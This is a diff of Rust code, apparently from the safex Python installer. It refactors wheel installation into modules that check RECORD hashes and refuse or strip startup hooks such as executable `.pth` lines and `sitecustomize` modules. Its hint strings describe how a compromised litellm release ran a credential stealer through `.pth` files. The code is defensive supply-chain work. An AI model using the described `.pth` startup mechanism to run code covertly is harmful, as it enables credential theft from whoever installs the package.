@@ -8,45 +8,33 @@
 //! - The wheel must be the distribution it was fetched as: its one
 //!   `<name>-<version>.dist-info` directory names `name` and `version`.
 //! - Every file must be listed in the wheel's `RECORD` with its sha256 and
-//!   size, and every `RECORD` row must name a file: pip and uv check the same.
-//!   Sizes are compared before anything is written, hashes while streaming.
-//! - Startup hooks are refused before anything is written: a `.pth` file at
-//!   the top of `site-packages` whose lines start with `import` is executed by
-//!   `site.py` whenever *any* program starts this Python
-//!   (<https://docs.python.org/3/library/site.html>), which is how the
-//!   compromised litellm 1.82.8 ran its credential stealer
-//!   (<https://github.com/BerriAI/litellm/issues/24512>). Lines are split as
-//!   every supported Python splits them ([`pth_pieces`]). For the same reason
-//!   `sitecustomize`/`usercustomize` modules, which `site.py` imports at every
-//!   start, and files in `bin/` that a console script would import in place
-//!   of a module ([`startup_hook`]) are judged by the same policy: left out
-//!   and reported (`Strip`), or refused.
-//! - Console scripts are written by safex from `entry_points.txt`, and only
-//!   for entries of the form `module:attr`, so that an entry point cannot
-//!   smuggle code into the script or a name out of the scripts directory.
+//!   size ([`super::record`]).
+//! - Startup hooks (`.pth` lines, `sitecustomize`, modules in `bin/`) are
+//!   judged by the policy before anything is written
+//!   ([`super::startup_hooks`]).
+//! - Console scripts are written by safex from `entry_points.txt`
+//!   ([`super::entry_points`]).
+//! - Each file goes where its install scheme says: the root of the wheel to
+//!   `purelib` or `platlib`, `<name>.data/<key>/` to the directory of `key`;
+//!   a `#!python` line of a script there becomes the environment's Python.
 //! - Every file is created with `create_new`: two wheels that install the same
 //!   path are refused rather than letting the later one win.
 //!
 //! On an error, files may already have been written: the caller installs into
 //! a private staging directory and deletes it on any error.
 
-// What to do with `.pth` files that land at the top of `site-packages` is
-// the policy's `python.pth`: `Strip` keeps setuptools'
-// `distutils-precedence.pth`, coverage's `a1_coverage.pth` and namespace
-// packages' `-nspkg.pth` working, without the lines `site.py` would run.
-use crate::policy::PthPolicy;
 use std::collections::HashMap;
-use std::collections::hash_map::Entry;
 use std::io::{self, BufWriter, Write};
 use std::path::{Path, PathBuf};
 use std::str::FromStr;
 
-use base64::Engine;
-use base64::engine::general_purpose::URL_SAFE_NO_PAD;
-
 use crate::archive::Limits;
 use crate::archive::zip::{FileDigest, Member, ValidatedZip, open_wheel_from};
 use crate::error::{Error, Result};
+use crate::policy::PthPolicy;
+use crate::pypi::entry_points::{EntryPoint, HINT_ENTRY, parse_entry_points, script, shebang};
+use crate::pypi::record::{Record, parse_csv};
+use crate::pypi::startup_hooks::{self, path_only_pth};
 
 /// Where the parts of a wheel go in the environment (the install scheme).
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -65,14 +53,6 @@ pub struct VenvLayout {
     pub python: PathBuf,
 }
 
-/// A `[console_scripts]` entry: `name = module:attr`, or `name = module`.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct EntryPoint {
-    pub name: String,
-    pub module: String,
-    pub attr: String,
-}
-
 /// What [`install_wheel`] installed.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct InstalledWheel {
@@ -89,24 +69,10 @@ pub struct InstalledWheel {
 /// Largest `RECORD`, `WHEEL`, `entry_points.txt` or `.pth` read into memory.
 const METADATA_MAX: u64 = 16 * 1024 * 1024;
 
-/// Longest interpreter path written as a plain `#!` line: Linux before 5.1
-/// reads 128 bytes of it, including `#!` and the newline.
-const SHEBANG_MAX: usize = 125;
-
 const HINT_MALFORMED: &str = "the bytes matched the expected hash, \
     so the published wheel itself is malformed";
 const HINT_RECORD: &str = "the wheel matched its expected hash, so it was published with files \
     that differ from its own `RECORD`; pip and uv refuse it too";
-const HINT_ENTRY: &str = "an entry point must be `name = module:attr` with a plain file name \
-    and dotted Python names; anything else could run other code or write outside `bin`";
-const HINT_PTH: &str = "`site.py` executes every `.pth` line that starts with `import`, \
-    in every program that uses this Python; the compromised litellm 1.82.8 stole credentials \
-    this way (https://github.com/BerriAI/litellm/issues/24512)";
-const HINT_HOOK: &str = "Python imports such a file in place of the module it is named \
-    after, in every program that uses this environment; policy `python.pth = \"strip\"` \
-    installs the package without it, and says so";
-const HINT_PTH_ALL: &str = "the policy refuses every `.pth` file; \
-    set `.pth` handling to refuse only executable ones to allow path-only files";
 const HINT_OVERWRITE: &str = "two packages in one environment install one file with \
     different contents; safex refuses rather than let whichever installs last win \
     (byte-identical copies, as namespace packages ship, are fine)";
@@ -178,116 +144,30 @@ pub fn install_wheel_from(
 ) -> Result<InstalledWheel> {
     // Cached wheels are named by their hash; messages name the package.
     let label = format!("{name}=={version}");
-    let mut zip = open_wheel_from(whl, &label, limits)?;
+    let zip = open_wheel_from(whl, &label, limits)?;
     let dist_info = find_dist_info(&zip, name, version)?;
-    let stem = dist_info.trim_end_matches(".dist-info").to_owned();
-    let data_dir = format!("{stem}.data");
     let ctx = Ctx {
         label: &label,
         layout,
+        dist_info: &dist_info,
     };
 
     // RECORD first: every file read into memory is then checked at once.
-    let record_name = format!("{dist_info}/RECORD");
-    let record_member = zip
-        .file(&record_name)
-        .cloned()
-        .ok_or_else(|| ctx.integrity(format!("has no `{record_name}`")))?;
-    let (record_bytes, _) = zip.read(&record_member, METADATA_MAX)?;
-    let record = Record::parse(&record_bytes, &dist_info).map_err(|e| ctx.integrity(e))?;
-    record.check_listing(&zip).map_err(|e| ctx.integrity(e))?;
-    let mut loaded: HashMap<String, Vec<u8>> = HashMap::new();
-    loaded.insert(record_name, record_bytes);
-
-    let wheel_name = format!("{dist_info}/WHEEL");
-    let root_is_purelib = {
-        let bytes = ctx.load(&mut zip, &record, &wheel_name, &mut loaded)?;
-        parse_wheel_file(&bytes).map_err(|e| ctx.refuse(format!("has a `{wheel_name}` {e}")))?
-    };
-    if zip.file(&format!("{dist_info}/INSTALLER")).is_some() {
-        return Err(ctx.refuse(format!("ships its own `{dist_info}/INSTALLER`")));
-    }
-    let installer = if root_is_purelib {
-        &layout.purelib
-    } else {
-        &layout.platlib
-    }
-    .join(&dist_info)
-    .join("INSTALLER");
+    let mut members = Members::open(&ctx, zip)?;
+    let root_is_purelib = ctx.read_wheel_file(&mut members)?;
+    let installer = ctx.installer(&members, root_is_purelib)?;
 
     // Where each file goes; refuse unknown `.data` keys and files that would
     // land on one path.
-    let mut plan = Vec::new();
     let mut claimed = Claims::default();
     ctx.claim(&mut claimed, &installer, "`INSTALLER`")?;
-    for member in zip.files() {
-        let dest = destination(&member.name, &data_dir, root_is_purelib, layout, name)
-            .map_err(|e| ctx.refuse(e))?;
-        ctx.claim(&mut claimed, &dest.path, &format!("`{}`", member.name))?;
-        plan.push((member.clone(), dest));
-    }
+    let mut plan = ctx.plan(&members, root_is_purelib, name, &mut claimed)?;
 
     // Startup hooks, before anything is written.
-    let mut stripped = Vec::new();
-    let mut strip = std::collections::HashSet::new();
-    let mut dropped = std::collections::HashSet::new();
-    for (member, dest) in &plan {
-        match startup_hook(dest) {
-            None => {}
-            Some(hook @ (Hook::Customize | Hook::Shadow(_))) => {
-                let why = hook.why();
-                // A file in `bin/` is never what safex launches (only console
-                // scripts are, and those take `bin/` off `sys.path`), so it is
-                // left out in every mode rather than refusing the tree:
-                // jmespath, under boto3, ships `.data/scripts/jp.py`.
-                if pth == PthPolicy::Strip || matches!(hook, Hook::Shadow(_)) {
-                    stripped.push(format!("`{}` ({why}: not installed)", member.name));
-                    dropped.insert(member.name.clone());
-                    continue;
-                }
-                return Err(ctx
-                    .refuse(format!("has `{}`, {why}", member.name))
-                    .with_hint(HINT_HOOK));
-            }
-            Some(Hook::Pth) if pth == PthPolicy::RefuseAll => {
-                return Err(ctx
-                    .refuse(format!(
-                        "has a `.pth` file `{}`, and `.pth` files are refused",
-                        member.name
-                    ))
-                    .with_hint(HINT_PTH_ALL));
-            }
-            Some(Hook::Pth) => {
-                let bytes = ctx.load(&mut zip, &record, &member.name, &mut loaded)?;
-                if let Some((line, text)) = executable_pth_line(&bytes) {
-                    if pth == PthPolicy::Strip {
-                        stripped.push(format!("`{}` (line {line}: `{text}`)", member.name));
-                        strip.insert(member.name.clone());
-                        continue;
-                    }
-                    return Err(ctx
-                        .refuse(format!(
-                            "has `{}`, which would run code at every Python start \
-                             (line {line}: `{text}`), as the compromised litellm 1.82.8 did",
-                            member.name
-                        ))
-                        .with_hint(HINT_PTH));
-                }
-            }
-        }
-    }
-    plan.retain(|(member, _)| !dropped.contains(&member.name));
+    let hooks = startup_hooks::judge(&ctx, &mut members, &mut plan, pth)?;
 
     // Console scripts, validated and placed before anything is written.
-    let entry_points_name = format!("{dist_info}/entry_points.txt");
-    let console_scripts = if zip.file(&entry_points_name).is_some() {
-        let bytes = ctx.load(&mut zip, &record, &entry_points_name, &mut loaded)?;
-        let text = std::str::from_utf8(&bytes)
-            .map_err(|_| ctx.refuse(format!("has a `{entry_points_name}` that is not UTF-8")))?;
-        parse_entry_points(text).map_err(|e| ctx.refuse(e).with_hint(HINT_ENTRY))?
-    } else {
-        Vec::new()
-    };
+    let console_scripts = ctx.read_console_scripts(&mut members)?;
     let header = shebang(&layout.python)?;
     for ep in &console_scripts {
         let what = format!("console script `{}`", ep.name);
@@ -296,68 +176,31 @@ pub fn install_wheel_from(
 
     // Write.
     for (member, dest) in &plan {
-        match shared.claim(&dest.path, &label, record.sha256_of(&member.name)) {
-            Ok(true) => {}
-            Ok(false) => continue,
-            Err(other) => {
-                return Err(ctx
-                    .refuse(format!(
-                        "installs `{}`, which `{other}` installs with other contents",
-                        member.name
-                    ))
-                    .with_hint(HINT_OVERWRITE));
-            }
-        }
-        if strip.contains(&member.name) {
-            // Checked against RECORD as published, then written without
-            // the lines that would run, or not at all if nothing is left.
-            let bytes = loaded.remove(&member.name).unwrap_or_default();
-            record
-                .check_digest(&member.name, &FileDigest::of(&bytes))
-                .map_err(|e| ctx.integrity(e))?;
-            let kept = path_only_pth(&bytes);
-            if !kept.is_empty() {
-                let mut file = ctx.create(&dest.path, &format!("`{}`", member.name), &dist_info)?;
-                file.write_all(&kept)?;
-                set_file_mode(&file, false)?;
-            }
+        if !ctx.claim_shared(shared, &members, member, dest)? {
             continue;
         }
-        let file = ctx.create(&dest.path, &format!("`{}`", member.name), &dist_info)?;
-        let executable = member.executable || dest.scheme == Scheme::Scripts;
-        let mut out = BufWriter::new(&file);
-        let digest = if dest.scheme == Scheme::Scripts {
-            let mut fixed = ShebangFix::new(&mut out, header.as_bytes());
-            let digest = ctx.copy(&mut zip, member, &mut loaded, &mut fixed)?;
-            fixed.finish()?;
-            digest
+        if hooks.strip.contains(&member.name) {
+            ctx.write_stripped_pth(&mut members, member, dest)?;
         } else {
-            ctx.copy(&mut zip, member, &mut loaded, &mut out)?
-        };
-        out.flush()?;
-        drop(out);
-        record
-            .check_digest(&member.name, &digest)
-            .map_err(|e| ctx.integrity(e))?;
-        set_file_mode(&file, executable)?;
+            ctx.write_member(&mut members, member, dest, &header)?;
+        }
     }
     for ep in &console_scripts {
-        let path = layout.scripts.join(&ep.name);
-        let what = format!("console script `{}`", ep.name);
-        let mut file = ctx.create(&path, &what, &dist_info)?;
-        file.write_all(script(&header, ep).as_bytes())?;
-        set_file_mode(&file, true)?;
+        ctx.write_console_script(ep, &header)?;
     }
-    let mut file = ctx.create(&installer, "`INSTALLER`", &dist_info)?;
+    let mut file = ctx.create(&installer, "`INSTALLER`")?;
     file.write_all(b"safex\n")?;
     set_file_mode(&file, false)?;
 
     Ok(InstalledWheel {
         console_scripts,
         files: plan.len() as u64,
-        stripped,
+        stripped: hooks.stripped,
     })
 }
+
+/// Every member with where it goes, in the wheel's order.
+pub(super) type Plan = Vec<(Member, Dest)>;
 
 /// Paths this wheel will create, lowercased, with the member that needs them.
 #[derive(Default)]
@@ -366,14 +209,75 @@ struct Claims {
     dirs: HashMap<String, String>,
 }
 
+/// The wheel's members, read through its `RECORD`: small files are read
+/// into memory once (and checked then), the others streamed as they are
+/// written.
+pub(super) struct Members {
+    zip: ValidatedZip,
+    record: Record,
+    loaded: HashMap<String, Vec<u8>>,
+}
+
+impl Members {
+    /// Read `RECORD` and check that it lists every file, and only those.
+    fn open(ctx: &Ctx, mut zip: ValidatedZip) -> Result<Self> {
+        let record_name = format!("{}/RECORD", ctx.dist_info);
+        let record_member = zip
+            .file(&record_name)
+            .cloned()
+            .ok_or_else(|| ctx.integrity(format!("has no `{record_name}`")))?;
+        let (record_bytes, _) = zip.read(&record_member, METADATA_MAX)?;
+        let record = Record::parse(&record_bytes, ctx.dist_info).map_err(|e| ctx.integrity(e))?;
+        record.check_listing(&zip).map_err(|e| ctx.integrity(e))?;
+        let mut loaded = HashMap::new();
+        loaded.insert(record_name, record_bytes);
+        Ok(Members {
+            zip,
+            record,
+            loaded,
+        })
+    }
+
+    /// Read a small file into memory (once) and check it against RECORD.
+    pub(super) fn load(&mut self, ctx: &Ctx, name: &str) -> Result<Vec<u8>> {
+        if let Some(bytes) = self.loaded.get(name) {
+            return Ok(bytes.clone());
+        }
+        let member = self
+            .zip
+            .file(name)
+            .cloned()
+            .ok_or_else(|| ctx.refuse(format!("has no `{name}`")))?;
+        let (bytes, digest) = self.zip.read(&member, METADATA_MAX)?;
+        self.record
+            .check_digest(name, &digest)
+            .map_err(|e| ctx.integrity(e))?;
+        self.loaded.insert(name.to_owned(), bytes.clone());
+        Ok(bytes)
+    }
+
+    /// Write a member to `out`: from memory if it was loaded, else streamed.
+    fn copy(&mut self, member: &Member, out: &mut dyn Write) -> Result<FileDigest> {
+        match self.loaded.remove(&member.name) {
+            Some(bytes) => {
+                out.write_all(&bytes)?;
+                Ok(FileDigest::of(&bytes))
+            }
+            None => self.zip.copy_to(member, out),
+        }
+    }
+}
+
 /// What messages need: which wheel, where it goes.
-struct Ctx<'a> {
+pub(super) struct Ctx<'a> {
     label: &'a str,
     layout: &'a VenvLayout,
+    /// The wheel's `<name>-<version>.dist-info` directory.
+    dist_info: &'a str,
 }
 
 impl Ctx<'_> {
-    fn refuse(&self, what: impl std::fmt::Display) -> Error {
+    pub(super) fn refuse(&self, what: impl std::fmt::Display) -> Error {
         Error::unsafe_pkg(format!("wheel `{}` {what}", self.label)).with_hint(HINT_MALFORMED)
     }
 
@@ -381,44 +285,146 @@ impl Ctx<'_> {
         Error::integrity(format!("wheel `{}` {what}", self.label)).with_hint(HINT_RECORD)
     }
 
-    /// Read a small file into `loaded` (once) and check it against RECORD.
-    fn load(
-        &self,
-        zip: &mut ValidatedZip,
-        record: &Record,
-        name: &str,
-        loaded: &mut HashMap<String, Vec<u8>>,
-    ) -> Result<Vec<u8>> {
-        if let Some(bytes) = loaded.get(name) {
-            return Ok(bytes.clone());
-        }
-        let member = zip
-            .file(name)
-            .cloned()
-            .ok_or_else(|| self.refuse(format!("has no `{name}`")))?;
-        let (bytes, digest) = zip.read(&member, METADATA_MAX)?;
-        record
-            .check_digest(name, &digest)
-            .map_err(|e| self.integrity(e))?;
-        loaded.insert(name.to_owned(), bytes.clone());
-        Ok(bytes)
+    /// The `WHEEL` file's `Root-Is-Purelib`.
+    fn read_wheel_file(&self, members: &mut Members) -> Result<bool> {
+        let wheel_name = format!("{}/WHEEL", self.dist_info);
+        let bytes = members.load(self, &wheel_name)?;
+        parse_wheel_file(&bytes).map_err(|e| self.refuse(format!("has a `{wheel_name}` {e}")))
     }
 
-    /// Write a member to `out`: from memory if it was loaded, else streamed.
-    fn copy(
-        &self,
-        zip: &mut ValidatedZip,
-        member: &Member,
-        loaded: &mut HashMap<String, Vec<u8>>,
-        out: &mut dyn Write,
-    ) -> Result<FileDigest> {
-        match loaded.remove(&member.name) {
-            Some(bytes) => {
-                out.write_all(&bytes)?;
-                Ok(FileDigest::of(&bytes))
-            }
-            None => zip.copy_to(member, out),
+    /// Where safex writes `INSTALLER`; a wheel that ships its own is refused.
+    fn installer(&self, members: &Members, root_is_purelib: bool) -> Result<PathBuf> {
+        let dist_info = self.dist_info;
+        if members
+            .zip
+            .file(&format!("{dist_info}/INSTALLER"))
+            .is_some()
+        {
+            return Err(self.refuse(format!("ships its own `{dist_info}/INSTALLER`")));
         }
+        Ok(if root_is_purelib {
+            &self.layout.purelib
+        } else {
+            &self.layout.platlib
+        }
+        .join(dist_info)
+        .join("INSTALLER"))
+    }
+
+    /// Where each member goes, each path claimed in `claims`.
+    fn plan(
+        &self,
+        members: &Members,
+        root_is_purelib: bool,
+        name: &str,
+        claims: &mut Claims,
+    ) -> Result<Plan> {
+        let stem = self.dist_info.trim_end_matches(".dist-info");
+        let data_dir = format!("{stem}.data");
+        let mut plan = Vec::new();
+        for member in members.zip.files() {
+            let dest = destination(&member.name, &data_dir, root_is_purelib, self.layout, name)
+                .map_err(|e| self.refuse(e))?;
+            self.claim(claims, &dest.path, &format!("`{}`", member.name))?;
+            plan.push((member.clone(), dest));
+        }
+        Ok(plan)
+    }
+
+    /// The console scripts of `entry_points.txt`, if the wheel has one.
+    fn read_console_scripts(&self, members: &mut Members) -> Result<Vec<EntryPoint>> {
+        let entry_points_name = format!("{}/entry_points.txt", self.dist_info);
+        if members.zip.file(&entry_points_name).is_none() {
+            return Ok(Vec::new());
+        }
+        let bytes = members.load(self, &entry_points_name)?;
+        let text = std::str::from_utf8(&bytes)
+            .map_err(|_| self.refuse(format!("has a `{entry_points_name}` that is not UTF-8")))?;
+        parse_entry_points(text).map_err(|e| self.refuse(e).with_hint(HINT_ENTRY))
+    }
+
+    /// Claim `dest` among the environment's wheels ([`SharedFiles`]):
+    /// `Ok(false)` when another wheel writes the same bytes there.
+    fn claim_shared(
+        &self,
+        shared: &SharedFiles,
+        members: &Members,
+        member: &Member,
+        dest: &Dest,
+    ) -> Result<bool> {
+        shared
+            .claim(
+                &dest.path,
+                self.label,
+                members.record.sha256_of(&member.name),
+            )
+            .map_err(|other| {
+                self.refuse(format!(
+                    "installs `{}`, which `{other}` installs with other contents",
+                    member.name
+                ))
+                .with_hint(HINT_OVERWRITE)
+            })
+    }
+
+    /// A `.pth` file to strip: checked against RECORD as published, then
+    /// written without the lines that would run, or not at all if nothing
+    /// is left.
+    fn write_stripped_pth(
+        &self,
+        members: &mut Members,
+        member: &Member,
+        dest: &Dest,
+    ) -> Result<()> {
+        let bytes = members.loaded.remove(&member.name).unwrap_or_default();
+        members
+            .record
+            .check_digest(&member.name, &FileDigest::of(&bytes))
+            .map_err(|e| self.integrity(e))?;
+        let kept = path_only_pth(&bytes);
+        if !kept.is_empty() {
+            let mut file = self.create(&dest.path, &format!("`{}`", member.name))?;
+            file.write_all(&kept)?;
+            set_file_mode(&file, false)?;
+        }
+        Ok(())
+    }
+
+    /// Write a member where it goes (a script with its `#!python` line
+    /// rewritten) and check it against RECORD.
+    fn write_member(
+        &self,
+        members: &mut Members,
+        member: &Member,
+        dest: &Dest,
+        header: &str,
+    ) -> Result<()> {
+        let file = self.create(&dest.path, &format!("`{}`", member.name))?;
+        let executable = member.executable || dest.scheme == Scheme::Scripts;
+        let mut out = BufWriter::new(&file);
+        let digest = if dest.scheme == Scheme::Scripts {
+            let mut fixed = ShebangFix::new(&mut out, header.as_bytes());
+            let digest = members.copy(member, &mut fixed)?;
+            fixed.finish()?;
+            digest
+        } else {
+            members.copy(member, &mut out)?
+        };
+        out.flush()?;
+        drop(out);
+        members
+            .record
+            .check_digest(&member.name, &digest)
+            .map_err(|e| self.integrity(e))?;
+        set_file_mode(&file, executable)
+    }
+
+    fn write_console_script(&self, ep: &EntryPoint, header: &str) -> Result<()> {
+        let path = self.layout.scripts.join(&ep.name);
+        let what = format!("console script `{}`", ep.name);
+        let mut file = self.create(&path, &what)?;
+        file.write_all(script(header, ep).as_bytes())?;
+        set_file_mode(&file, true)
     }
 
     /// Refuse two files of this wheel that land on one path (also when the
@@ -459,7 +465,7 @@ impl Ctx<'_> {
 
     /// Create `path` (and its parents) for `what` (a member or script, in
     /// backticks, for messages); never overwrite.
-    fn create(&self, path: &Path, what: &str, dist_info: &str) -> Result<fs_err::File> {
+    fn create(&self, path: &Path, what: &str) -> Result<fs_err::File> {
         if let Some(parent) = path.parent()
             && let Err(e) = fs_err::create_dir_all(parent)
         {
@@ -480,7 +486,7 @@ impl Ctx<'_> {
             if e.kind() != io::ErrorKind::AlreadyExists {
                 return e.into();
             }
-            let owner = owner_of(self.layout, path, dist_info)
+            let owner = owner_of(self.layout, path, self.dist_info)
                 .map_or_else(|| "an earlier wheel".to_owned(), |o| format!("`{o}`"));
             self.refuse(format!(
                 "would overwrite `{}` with {what}; {owner} already installed it",
@@ -601,238 +607,9 @@ fn parse_wheel_file(bytes: &[u8]) -> Result<bool, String> {
     }
 }
 
-/// One row of a `RECORD`: path, sha256 (none for `RECORD` itself and its
-/// signatures), size.
-pub type RecordRow = (String, Option<[u8; 32]>, Option<u64>);
-
-/// The rows of an installed `RECORD` (for `safex cache verify --deep`).
-pub fn record_rows(bytes: &[u8], dist_info: &str) -> Result<Vec<RecordRow>, String> {
-    let record = Record::parse(bytes, dist_info)?;
-    let mut rows: Vec<_> = record
-        .rows
-        .into_iter()
-        .map(|(path, (hash, size))| (path, hash, size))
-        .collect();
-    rows.sort();
-    Ok(rows)
-}
-
-/// Is this `.pth` content what safex leaves of a `.pth` after stripping
-/// its executable lines (so it may differ from `RECORD` by design)?
-pub fn is_stripped_pth(bytes: &[u8]) -> bool {
-    path_only_pth(bytes) == bytes
-}
-
-/// The wheel's `RECORD`: sha256 and size for every file but itself.
-struct Record {
-    dist_info: String,
-    rows: HashMap<String, (Option<[u8; 32]>, Option<u64>)>,
-}
-
-impl Record {
-    fn parse(bytes: &[u8], dist_info: &str) -> Result<Self, String> {
-        let text = std::str::from_utf8(bytes)
-            .map_err(|_| format!("has a `{dist_info}/RECORD` that is not UTF-8"))?;
-        let mut rows = HashMap::new();
-        for (line, row) in parse_csv(text)
-            .map_err(|e| format!("has a `{dist_info}/RECORD` that is not valid CSV: {e}"))?
-        {
-            let [path, hash, size] = <[String; 3]>::try_from(row).map_err(|row| {
-                format!(
-                    "has a `{dist_info}/RECORD` whose line {line} has {} fields, not 3",
-                    row.len()
-                )
-            })?;
-            let exempt = is_signature_file(&path, dist_info);
-            let hash = match (hash.as_str(), exempt) {
-                ("", true) => None,
-                (hash, _) => Some(parse_hash(hash).map_err(|e| {
-                    format!("has a `{dist_info}/RECORD` whose row for `{path}` {e}")
-                })?),
-            };
-            let size = match (size.as_str(), exempt) {
-                ("", true) => None,
-                (size, _) => Some(size.parse::<u64>().map_err(|_| {
-                    format!("has a `{dist_info}/RECORD` whose row for `{path}` has size `{size}`")
-                })?),
-            };
-            match rows.entry(path) {
-                Entry::Vacant(v) => {
-                    v.insert((hash, size));
-                }
-                Entry::Occupied(o) if *o.get() == (hash, size) => {}
-                Entry::Occupied(o) => {
-                    return Err(format!(
-                        "has a `{dist_info}/RECORD` that lists `{}` twice, differently",
-                        o.key()
-                    ));
-                }
-            }
-        }
-        Ok(Record {
-            dist_info: dist_info.to_owned(),
-            rows,
-        })
-    }
-
-    /// Every file listed with its declared size, every row a file.
-    fn check_listing(&self, zip: &ValidatedZip) -> Result<(), String> {
-        for member in zip.files() {
-            if is_signature_file(&member.name, &self.dist_info) {
-                continue;
-            }
-            match self.rows.get(&member.name) {
-                None => {
-                    return Err(format!(
-                        "has a file `{}` that its RECORD does not list",
-                        member.name
-                    ));
-                }
-                Some((_, Some(size))) if *size != member.size => {
-                    return Err(format!(
-                        "has a file `{}` of {} bytes, but its RECORD says {size}",
-                        member.name, member.size
-                    ));
-                }
-                Some(_) => {}
-            }
-        }
-        let mut missing: Vec<&String> = self
-            .rows
-            .keys()
-            .filter(|p| !is_signature_file(p, &self.dist_info) && zip.file(p).is_none())
-            .collect();
-        missing.sort_unstable();
-        match missing.first() {
-            Some(path) => Err(format!("lists `{path}` in its RECORD but has no such file")),
-            None => Ok(()),
-        }
-    }
-
-    /// The sha256 `RECORD` lists for `name`.
-    fn sha256_of(&self, name: &str) -> Option<[u8; 32]> {
-        self.rows.get(name).and_then(|(h, _)| *h)
-    }
-
-    fn check_digest(&self, name: &str, digest: &FileDigest) -> Result<(), String> {
-        if is_signature_file(name, &self.dist_info) {
-            return Ok(());
-        }
-        let Some((hash, size)) = self.rows.get(name) else {
-            return Err(format!("has a file `{name}` that its RECORD does not list"));
-        };
-        if *size != Some(digest.size) {
-            return Err(format!(
-                "has a file `{name}` of {} bytes, but its RECORD says {}",
-                digest.size,
-                size.map_or_else(|| "nothing".to_owned(), |s| s.to_string())
-            ));
-        }
-        if *hash != Some(digest.sha256) {
-            return Err(format!(
-                "has a file `{name}` whose sha256 differs from its RECORD \
-                 (RECORD: `{}`, file: `sha256={}`)",
-                hash.map_or_else(String::new, |h| format!(
-                    "sha256={}",
-                    URL_SAFE_NO_PAD.encode(h)
-                )),
-                URL_SAFE_NO_PAD.encode(digest.sha256)
-            ));
-        }
-        Ok(())
-    }
-}
-
-/// `RECORD` itself and its signatures are not listed with hashes.
-fn is_signature_file(path: &str, dist_info: &str) -> bool {
-    path.strip_prefix(dist_info)
-        .and_then(|rest| rest.strip_prefix('/'))
-        .is_some_and(|f| matches!(f, "RECORD" | "RECORD.jws" | "RECORD.p7s"))
-}
-
-/// `sha256=<urlsafe base64, padding optional>`.
-fn parse_hash(value: &str) -> Result<[u8; 32], String> {
-    let Some((algo, b64)) = value.split_once('=') else {
-        return Err(format!("has no hash (`{value}`)"));
-    };
-    if algo != "sha256" {
-        return Err(format!("uses `{algo}`; safex checks sha256"));
-    }
-    URL_SAFE_NO_PAD
-        .decode(b64.trim_end_matches('='))
-        .ok()
-        .and_then(|b| <[u8; 32]>::try_from(b).ok())
-        .ok_or_else(|| format!("has a malformed sha256 `{b64}`"))
-}
-
-/// CSV as Python's `csv` module writes it: `,` between fields, `"` around
-/// fields that need it, `""` for a quote inside them, `\n` or `\r\n` between
-/// rows. Returns rows with their 1-based line numbers; blank lines are skipped.
-fn parse_csv(text: &str) -> Result<Vec<(usize, Vec<String>)>, String> {
-    let mut rows = Vec::new();
-    let mut row = Vec::new();
-    let mut field = String::new();
-    let mut quoted = false; // inside quotes
-    let mut was_quoted = false; // this field was quoted
-    let mut line = 1;
-    let mut row_line = 1;
-    let mut chars = text.chars().peekable();
-    while let Some(c) = chars.next() {
-        if quoted {
-            match c {
-                '"' if chars.peek() == Some(&'"') => {
-                    chars.next();
-                    field.push('"');
-                }
-                '"' => quoted = false,
-                c => {
-                    if c == '\n' {
-                        line += 1;
-                    }
-                    field.push(c);
-                }
-            }
-            continue;
-        }
-        match c {
-            '"' if field.is_empty() && !was_quoted => {
-                quoted = true;
-                was_quoted = true;
-            }
-            ',' => {
-                row.push(std::mem::take(&mut field));
-                was_quoted = false;
-            }
-            '\r' | '\n' => {
-                if c == '\r' && chars.peek() == Some(&'\n') {
-                    chars.next();
-                }
-                if !(row.is_empty() && field.is_empty() && !was_quoted) {
-                    row.push(std::mem::take(&mut field));
-                    rows.push((row_line, std::mem::take(&mut row)));
-                }
-                was_quoted = false;
-                line += 1;
-                row_line = line;
-            }
-            '"' => return Err(format!("line {line} has a stray quote")),
-            _ if was_quoted => return Err(format!("line {line} has text after a closing quote")),
-            c => field.push(c),
-        }
-    }
-    if quoted {
-        return Err(format!("line {row_line} has an unterminated quote"));
-    }
-    if !(row.is_empty() && field.is_empty() && !was_quoted) {
-        row.push(field);
-        rows.push((row_line, row));
-    }
-    Ok(rows)
-}
-
 /// The install scheme key a file goes to.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Scheme {
+pub(super) enum Scheme {
     Purelib,
     Platlib,
     Scripts,
@@ -840,12 +617,13 @@ enum Scheme {
     Headers,
 }
 
+/// Where one member goes.
 #[derive(Debug)]
-struct Dest {
+pub(super) struct Dest {
     path: PathBuf,
-    scheme: Scheme,
+    pub(super) scheme: Scheme,
     /// The path below the scheme's directory.
-    rel: String,
+    pub(super) rel: String,
 }
 
 /// Where the member `name` goes: the root of the wheel to purelib or
@@ -903,460 +681,6 @@ fn destination(
         rel: rel.to_owned(),
     })
 }
-
-enum Hook {
-    /// A `.pth` file that `site.py` reads.
-    Pth,
-    /// A `sitecustomize` or `usercustomize` module.
-    Customize,
-    /// A module or package in the scripts directory, importable as this
-    /// name by every script run from there.
-    Shadow(String),
-}
-
-impl Hook {
-    fn why(&self) -> String {
-        match self {
-            Hook::Pth => "a `.pth` file".to_owned(),
-            Hook::Customize => "a module that Python would run at every start".to_owned(),
-            Hook::Shadow(module) => format!(
-                "which lands in `bin/`, the first directory on `sys.path` of a script \
-                 run from there, where it would be imported as `{module}` ahead of \
-                 the standard library and every installed package"
-            ),
-        }
-    }
-}
-
-/// Whether a file would run at every Python start, or in place of a module.
-///
-/// - `.pth` files: `site.py` reads those at the top of `site-packages`.
-///   `.data/data/` files are judged by their whole path: they may reach
-///   `site-packages` through a `lib64` symlink or a case-insensitive file
-///   system.
-/// - `sitecustomize`/`usercustomize` (module, extension or package):
-///   `site.py` imports them from anywhere on `sys.path` once the `.pth`
-///   files are read: at the top of `site-packages` here; deeper ones
-///   (opentelemetry-instrumentation ships one for its own launcher to put
-///   on `PYTHONPATH`) only count when a `.pth` path line of some wheel puts
-///   their directory on `sys.path`, which [`path_line_hooks`] checks once
-///   the whole tree is installed. In the data tree a path component with
-///   that name anywhere counts.
-/// - The scripts directory is `sys.path[0]` of every console script (safex
-///   runs `python bin/<script>`; neither `-I` nor `-P` is used, and 3.8 has
-///   neither), so `bin/json.py`, `bin/json.cpython-312-x86_64-linux-gnu.so`,
-///   `bin/json.pyc` or a directory `bin/json/` is imported as `json` ahead
-///   of the standard library. `site.py` does not search `bin/` at start-up
-///   (`sys.path[0]` is set after it ran), so `bin/sitecustomize.py` is such a
-///   shadow, not a start-up hook. Plain scripts (`tool`, `tool-cli.py`, whose
